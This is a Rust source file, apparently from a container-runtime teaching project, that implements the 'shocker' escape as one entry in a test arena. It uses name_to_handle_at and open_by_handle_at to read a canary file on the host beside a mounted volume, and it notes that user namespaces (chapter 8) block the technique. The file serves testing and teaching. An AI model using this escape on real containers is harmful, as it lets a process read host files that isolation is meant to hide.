//! A file by its handle: "shocker", the way out of Docker before 1.0.
//!
//! A path leads through directories, and a container's paths begin at its root. A handle does not: it is the file's
//! number in its filesystem, and open_by_handle_at(2) opens it by that, wherever it is. Whoever has a directory of a
//! filesystem, a volume say, and CAP_DAC_READ_SEARCH, reads all that is on it. Numbers can be guessed: on ext4 the
//! root directory's is 2. (Here the attacker is told the handle.)
//!
//! Chapter 8 stops it: in a user namespace that right does not reach the host's filesystems. Newer kernels allow it there
//! for what is below the mount.

use std::ffi::{CString, c_int};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::unix::ffi::OsStrExt;

use nix::errno::Errno;

use crate::arena::Arena;
use crate::inside::{At, Inside, Stopped};
use crate::{Attack, End};
use cooperage::told::errors::{Error, Result};

pub const ATTACK: Attack = Attack {
    name: "open-by-handle",
    title: "open_by_handle_at(2) of a file beside the volume (\"shocker\")",
    won: "read a host file by its number",
    harmless: "",
    end: End::Chapter(8),
    because: "CAP_DAC_READ_SEARCH of a user namespace does not count for the host's filesystems",
    prepare,
    attack,
    judge: Arena::brought_back,
};

/// What name_to_handle_at(2) writes.
#[repr(C)]
struct Handle {
    bytes: u32,
    kind: c_int,
    handle: [u8; 128],
}

fn prepare(arena: &mut Arena) -> Result<()> {
    if arena.chapter < 3 {
        arena.nothing_to_attack("volumes come with chapter 3");
        return Ok(());
    }
    arena.open_volume()?;
    let secret = CString::new(arena.path("outside/secret").as_os_str().as_bytes()).unwrap_or_default();
    let mut handle = Handle { bytes: 128, kind: 0, handle: [0; 128] };
    let mut mount: c_int = 0;
    // SAFETY: the path ends with a zero byte; handle and mount are as large as the kernel is told.
    let result = unsafe {
        libc::syscall(
            libc::SYS_name_to_handle_at,
            libc::AT_FDCWD,
            secret.as_ptr(),
            &raw mut handle,
            &raw mut mount,
            0,
        )
    };
    match Errno::result(result) {
        Err(Errno::EOPNOTSUPP) => arena.nothing_to_attack("this filesystem has no handles"),
        Err(errno) => return Err(Error::call("learn a file's handle", "name_to_handle_at()", errno)),
        Ok(_) => {
            let bytes = &handle.handle[..handle.bytes as usize];
            let text: String = bytes.iter().map(|byte| format!("{byte:02x}")).collect();
            arena.tell("handle", &format!("{} {text}", handle.kind));
        }
    }
    Ok(())
}

fn attack(me: &Inside) -> std::result::Result<String, Stopped> {
    let (kind, text) = me.text("handle").split_once(' ').unwrap_or_default();
    let mut handle = Handle { bytes: (text.len() / 2) as u32, kind: kind.parse().unwrap_or(0), handle: [0; 128] };
    for (place, index) in handle.handle.iter_mut().zip((0..text.len()).step_by(2)) {
        *place = u8::from_str_radix(text.get(index..index + 2).unwrap_or_default(), 16).unwrap_or(0);
    }
    let volume = std::fs::File::open("/mnt").at("open(/mnt)")?;
    // SAFETY: the handle is as long as it says.
    let file = unsafe {
        libc::syscall(libc::SYS_open_by_handle_at, volume.as_raw_fd(), &raw mut handle, libc::O_RDONLY)
    };
    let file = Errno::result(file).at("open_by_handle_at(beside the volume)")?;
    // SAFETY: the descriptor is new and nobody else's.
    let file = unsafe { OwnedFd::from_raw_fd(file as c_int) };
    std::io::read_to_string(std::fs::File::from(file)).at("read(the canary)")
}
